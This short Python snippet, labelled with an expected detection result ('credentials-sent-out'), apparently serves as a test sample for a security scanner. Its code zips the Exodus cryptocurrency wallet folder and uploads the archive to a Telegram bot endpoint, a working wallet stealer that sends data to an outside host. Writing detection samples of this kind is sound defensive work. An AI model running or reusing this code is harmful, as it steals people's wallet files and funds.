# expect: 7 credentials-sent-out
import os, zipfile, requests
src = os.path.expandvars('%APPDATA%\\Exodus\\exodus.wallet')
with zipfile.ZipFile('w.zip', 'w') as z:
    for n in os.listdir(src):
        z.write(os.path.join(src, n))
requests.post('https://api.telegram.org/bot123:abc/sendDocument', files={'document': open('w.zip', 'rb')})
